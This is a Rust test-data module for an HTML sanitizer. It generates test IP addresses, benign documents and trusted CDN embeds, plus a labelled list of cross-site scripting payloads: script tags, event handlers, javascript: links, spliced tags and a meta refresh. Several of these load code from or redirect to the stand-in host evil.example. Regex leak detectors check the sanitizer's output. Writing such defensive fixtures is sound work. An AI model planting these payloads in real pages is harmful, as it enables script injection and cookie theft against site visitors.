// SPDX-FileCopyrightText: 2025 Hyperpolymath
// SPDX-License-Identifier: PMPL-1.0-or-later

//! Test data generators for attack simulation.

use once_cell::sync::Lazy;
use regex::Regex;
use std::net::{IpAddr, Ipv4Addr};

/// Origin every simulation trusts.
pub const TRUSTED_HOST: &str = "cdn.trusted.example";

static LEAK_PATTERNS: Lazy<Vec<Regex>> = Lazy::new(|| {
    [
        r"(?i)<script",
        r"(?i)\bon\w+\s*=",
        r"(?i)javascript\s*(?::|&colon;|&#0*58;?|&#x0*3a;?)",
        r#"(?i)http-equiv\s*=\s*["']?\s*refresh"#,
    ]
    .iter()
    .map(|p| Regex::new(p).unwrap())
    .collect()
});

/// Generate a pool of subjects (IP addresses) for testing.
pub fn generate_subjects(count: usize) -> Vec<String> {
    (0..count)
        .map(|i| {
            // Use 10.x.x.x private range
            let a = ((i >> 16) & 0xFF) as u8;
            let b = ((i >> 8) & 0xFF) as u8;
            let c = (i & 0xFF) as u8;
            IpAddr::V4(Ipv4Addr::new(10, a, b, c)).to_string()
        })
        .collect()
}

/// Harmless document bodies.
pub fn generate_benign_documents(count: usize) -> Vec<String> {
    (0..count)
        .map(|i| format!("<article><h1>Post {}</h1><p>Plain text body {}</p></article>", i, i))
        .collect()
}

/// Known active-content payloads that must not survive strict sanitization.
pub fn generate_xss_payloads() -> Vec<(&'static str, &'static str)> {
    vec![
        ("inline script", "<script>alert(1)</script>"),
        ("uppercase script", "<SCRIPT>alert(document.cookie)</SCRIPT>"),
        ("untrusted external", r#"<script src="https://evil.example/x.js"></script>"#),
        (
            "allow-list in query",
            r#"<script src="https://evil.example/x.js?cdn.trusted.example"></script>"#,
        ),
        (
            "allow-list in path",
            r#"<script src="https://evil.example/cdn.trusted.example/x.js"></script>"#,
        ),
        ("unterminated script", "<script>alert(1)"),
        ("spliced script", "<scr<script>x</script>ipt>alert(1)</script>"),
        (
            "spliced external",
            r#"<scr<script></script>ipt src="https://evil.example/x.js"></script>"#,
        ),
        (
            "config lookalike",
            "<script>var appConfig = { a: 1 }; fetch('//evil.example')</script>",
        ),
        ("img onerror", "<img src=x onerror=alert(1)>"),
        ("svg slash onload", "<svg/onload=alert(1)>"),
        ("spaced handler", r#"<img src=x oNeRrOr = "alert(1)">"#),
        ("multiple handlers", r#"<div onmouseover="steal()" onclick='x()'>hi</div>"#),
        ("body onload", "<body onload=alert(1)>"),
        ("javascript href", r#"<a href="javascript:alert(1)">x</a>"#),
        ("entity colon href", r#"<a href="JaVaScRiPt&colon;alert(1)">x</a>"#),
        ("numeric colon href", r#"<a href="javascript&#58;alert(1)">x</a>"#),
        ("split scheme", "<a href=\"java\nscript:alert(1)\">x</a>"),
        ("iframe scheme", r#"<iframe src="javascript:alert(1)"></iframe>"#),
        ("object scheme", r#"<object data="javascript:alert(1)"></object>"#),
        (
            "meta refresh",
            r#"<meta http-equiv="refresh" content="0;url=https://evil.example">"#,
        ),
        (
            "nested handler",
            r#"<div ononclick=clickclick="x()">hi</div>"#,
        ),
    ]
}

/// Trusted embeds that must come out byte-identical.
pub fn generate_trusted_embeds() -> Vec<&'static str> {
    vec![
        r#"<script src="https://cdn.trusted.example/lib.js"></script>"#,
        r#"<script src='https://cdn.trusted.example/app.js' defer></script>"#,
        "<script src=//cdn.trusted.example/bare.js></script>",
        r#"<link rel="stylesheet" href="https://cdn.trusted.example/site.css">"#,
        "<script>tailwind.config = { theme: { extend: {} } }</script>",
    ]
}

/// Remove trusted embeds from `output` and report any active content left.
pub fn find_leak(output: &str) -> Option<String> {
    let mut residue = output.to_string();
    for embed in generate_trusted_embeds() {
        residue = residue.replace(embed, "");
    }
    LEAK_PATTERNS
        .iter()
        .find_map(|pattern| pattern.find(&residue).map(|m| m.as_str().to_string()))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_generate_subjects() {
        let subjects = generate_subjects(256);
        assert_eq!(subjects.len(), 256);
        // All should be unique
        let unique: std::collections::HashSet<_> = subjects.iter().collect();
        assert_eq!(unique.len(), 256);
    }

    #[test]
    fn test_leak_detection() {
        assert!(find_leak("<p>fine</p>").is_none());
        assert!(find_leak(generate_trusted_embeds()[0]).is_none());
        assert!(find_leak("<b onclick=x>").is_some());
        assert!(find_leak("<a href='javascript:x'>").is_some());
        assert!(find_leak("<script>").is_some());
    }
}
